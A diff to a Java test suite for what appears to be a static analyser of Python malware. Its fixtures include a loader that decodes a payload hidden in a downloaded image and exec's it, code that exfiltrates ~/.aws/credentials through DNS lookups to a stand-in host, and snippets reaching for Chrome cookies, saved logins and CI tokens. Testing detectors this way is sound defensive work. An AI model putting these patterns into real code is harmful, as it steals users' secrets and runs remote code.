@@ -772,6 +772,41 @@ class PyEvaluatorTest {
     }
 
     @Test
+    void aLoopOverUnknownItemsDoesNotDecideTestsOnWhatItAccumulates() {
+        String code = "import requests\nbits, out = [], ''\n"
+                + "for px in requests.get('https://x.example.invalid/i.png').content:\n"
+                + "    bits.append(str(px & 1))\n"
+                + "    if len(bits) == 8:\n        out += chr(int(''.join(bits), 2))\n        bits = []\n"
+                + "if out:\n    exec(out)\n";
+        assertThat(evaluate(code).calls()).filteredOn(c -> c.callee().equals("builtins.exec")).singleElement()
+                .satisfies(c -> assertThat(Value.union(c.args().get(0))).contains("requests.get"));
+    }
+
+    @Test
+    void aSmallHelperOfAnotherModuleCalledWithNothingGivesWhatItReallyReturns() {
+        String code = "from . import paths, dns\nfor p in paths.candidates():\n    sink(p)\n"
+                + "sink(paths.settings()['stage'])\ndns.lookup(open(paths.candidates()[0]).read().encode().hex() + '.x.example.invalid')\n";
+        java.util.Map<String, byte[]> files = java.util.Map.of(
+                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
+                "p-1/pkg/paths.py", ("import os, json\nfrom pathlib import Path\n"
+                        + "def candidates():\n    return [Path.home() / r for r in ('.aws/credentials', '.netrc')]\n"
+                        + "def settings():\n    with open(os.path.join(os.path.dirname(__file__), 'd.json')) as f:\n        return json.load(f)\n")
+                        .getBytes(java.nio.charset.StandardCharsets.UTF_8),
+                "p-1/pkg/d.json", "{\"stage\": \"aGVsbG8=\"}".getBytes(java.nio.charset.StandardCharsets.UTF_8),
+                "p-1/pkg/dns.py", "import socket\ndef lookup(name):\n    socket.gethostbyname(name)\n"
+                        .getBytes(java.nio.charset.StandardCharsets.UTF_8));
+        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
+                new ModuleFiles.Cache(), (importer, m) -> m.equals(".paths") || m.equals("pkg.paths") ? "p-1/pkg/paths.py"
+                        : m.equals(".dns") || m.equals("pkg.dns") ? "p-1/pkg/dns.py" : null));
+        List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
+        assertThat(sinks).extracting(c -> PyBuiltins.fragments(c.args().get(0))).anySatisfy(f -> assertThat(f).contains("/.aws/credentials"));
+        assertThat(PyValues.text(sinks.get(sinks.size() - 1).args().get(0))).as("a dict read from the package's data file").isEqualTo("aGVsbG8=");
+        assertThat(model.calls()).filteredOn(c -> c.callee().equals("socket.gethostbyname")).singleElement()
+                .as("a lookup a helper makes of what it was handed is made here")
+                .satisfies(c -> assertThat(Value.union(c.args().get(0))).anyMatch(f -> f.startsWith("file:")));
+    }
+
+    @Test
     void aTestThatPinsANameToKnownTextGivesItThatTextInTheBranch() {
         String code = "import os\nFILES = ('Login Data', 'Cookies')\n"
                 + "for root, _, names in os.walk(os.path.expanduser('~/.config/google-chrome')):\n"
@@ -870,8 +905,7 @@ class PyEvaluatorTest {
                 sink([k for k in keys if k.startswith("GITHUB")])
                 """);
         List<PyModel.CallSite> sinks = model.calls().stream().filter(c -> c.callee().equals("sink")).toList();
-        assertThat(sinks.get(0).args().get(0)).isInstanceOf(Value.Opaque.class);
-        assertThat(sinks.get(0).args().get(0).from()).contains("env:GITHUB_TOKEN", "env:NPM_TOKEN");
+        assertThat(Value.union(sinks.get(0).args().get(0))).as("either may be kept").contains("env:GITHUB_TOKEN", "env:NPM_TOKEN");
         assertThat(PyValues.text(((Value.Seq) sinks.get(1).args().get(0)).items().get(0))).isEqualTo("GITHUB_TOKEN");
     }
 
